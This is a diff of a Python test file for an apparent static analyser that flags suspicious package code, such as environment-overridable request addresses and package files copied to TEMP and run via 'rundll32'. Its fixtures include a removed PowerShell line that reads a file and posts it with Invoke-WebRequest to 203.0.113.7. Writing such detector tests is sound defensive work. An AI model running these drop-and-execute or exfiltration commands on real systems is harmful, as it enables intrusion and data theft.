@@ -107,6 +107,14 @@ def test_what_waits_for_somebody_does_not_run_on_import(source: str) -> None:
     assert run(source) == []
 
 
+@pytest.mark.parametrize("how", ["os.getenv('SAMPLE', ADDRESS)", "os.environ.get('SAMPLE') or ADDRESS"])
+def test_an_address_that_the_environment_may_change_is_not_the_one_in_the_code(how: str) -> None:
+    source = f"import os, requests\nADDRESS = 'http://203.0.113.7'\nrequests.get({how})"
+    assert calls(source, "requests.get")[0].arguments[0].text is None or "SAMPLE" in str(
+        calls(source, "requests.get")[0].arguments[0].text
+    )
+
+
 def test_a_path_below_a_variable_keeps_the_name_of_the_variable() -> None:
     assert texts("os.system('dir ' + os.getenv('APPDATA', '/tmp'))") == {"dir %APPDATA%"}
 
@@ -196,16 +204,17 @@ def test_a_token_that_is_asked_for_is_a_secret(question: str, secret: bool) -> N
 
 @pytest.mark.parametrize(
     ("name", "to", "embedded"),
-    [("data.bin", "a.cpl", True), ("tool.exe", "b.exe", False), ("data.bin", "b.json", False)],
+    [
+        ("table.dat", "a.cpl", True),
+        ("tool.exe", "b.exe", False),
+        ("tool-windows", "b.exe", False),
+        ("run.txt", "b.bat", False),
+        ("data.dat", "b.json", False),
+    ],
 )
 def test_a_file_of_the_package_that_becomes_a_program_by_another_name(name: str, to: str, embedded: bool) -> None:
     source = f"import shutil\nto = os.environ['TEMP'] + '/{to}'\nshutil.copy(os.path.dirname(__file__) + '/{name}', to)\nos.system('rundll32 ' + to)"
     assert (EMBEDDED in run(source)[0].arguments[0].labels) is embedded
-
-
-def test_a_script_of_powershell_is_a_program() -> None:
-    source = "open('/tmp/a.ps1', 'w').write('$t = Get-Content x\\nInvoke-WebRequest -Uri http://203.0.113.7 -Body $t')\nos.system('powershell -File /tmp/a.ps1')"
-    assert EMBEDDED in run(source)[0].arguments[0].labels
 
 
 @pytest.mark.parametrize("first", ["LINE", "'true'"])
